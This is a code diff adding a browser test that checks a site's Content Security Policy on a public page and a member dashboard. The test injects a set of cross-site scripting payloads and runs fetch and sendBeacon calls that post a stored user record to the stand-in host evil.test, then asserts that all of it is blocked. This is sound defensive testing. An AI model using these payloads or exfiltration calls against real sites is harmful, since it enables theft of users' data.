@@ -114,3 +114,70 @@ describe('Section 2, Member-only guard', () => {
     await own.close();
   });
 });
+
+describe('G8: what somebody slips into the page of a member', () => {
+  const TRAP = 'https://evil.test';
+  const READ = "trapped.push(localStorage.getItem('user'))";
+  const MARKUP = [
+    `<img src="/x" onerror="${READ}"><svg onload="${READ}"></svg><details open ontoggle="${READ}"></details>`,
+    `<iframe srcdoc="<script>parent.${READ}</script>"></iframe><iframe src="javascript:parent.${READ}"></iframe>`,
+    `<a id="slipped" href="javascript:${READ}">x</a><object data="data:text/html,<script>parent.${READ}</script>"></object>`,
+    `<link rel="stylesheet" href="${TRAP}/style.css">`,
+    `<form action="${TRAP}/form"><button id="sent" name="a" value="b">x</button></form><img src="${TRAP}/image">`,
+  ].join('');
+
+  test.each([
+    ['a page that is kept for everybody', '/who-we-are/bylaws'],
+    ['a page made for one', '/member-dashboard'],
+  ])('G8: %s runs nothing of it, and sends the user record nowhere', async (_name, path) => {
+    const reached: string[] = [];
+    await context.route(`${TRAP}/**`, (route) => {
+      reached.push(route.request().url());
+      return route.fulfill({ body: 'caught' });
+    });
+    const { page } = await openPage(context);
+    await page.goto(`${site.origin}/login`, { waitUntil: 'networkidle' });
+    await fill(page, 'main', MEMBER);
+    await page.waitForURL('**/member-dashboard');
+    await page.goto(site.origin + path, { waitUntil: 'networkidle' });
+    const outcome = await page.evaluate(
+      async ([markup, trap]) => {
+        const trapped: unknown[] = [];
+        const blocked: string[] = [];
+        Object.assign(window, { trapped });
+        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
+          blocked.push(effectiveDirective),
+        );
+        const slipped = document.createElement('div');
+        slipped.innerHTML = markup ?? '';
+        document.body.append(slipped);
+        slipped.querySelector<HTMLElement>('#slipped')?.click();
+        slipped.querySelector<HTMLElement>('#sent')?.click();
+        const record = localStorage.getItem('user');
+        // As if a script ran all the same: it reads the record, and can tell nobody.
+        const sent = await fetch(`${trap}/fetch?${record}`, { method: 'POST', mode: 'no-cors' }).then(
+          () => true,
+          () => false,
+        );
+        navigator.sendBeacon(`${trap}/beacon`, record);
+        await new Promise((resolve) => setTimeout(resolve, 300));
+        return { trapped, blocked, sent, hasRecord: record !== null };
+      },
+      [MARKUP, TRAP],
+    );
+    expect(outcome).toMatchObject({ trapped: [], sent: false, hasRecord: true });
+    expect(new Set(outcome.blocked)).toEqual(
+      new Set([
+        'script-src-attr',
+        'connect-src',
+        'img-src',
+        'form-action',
+        'style-src-elem',
+        'object-src',
+        'script-src-elem',
+      ]),
+    );
+    expect(reached).toEqual([]);
+    expect(page.url()).toBe(site.origin + path);
+  });
+});
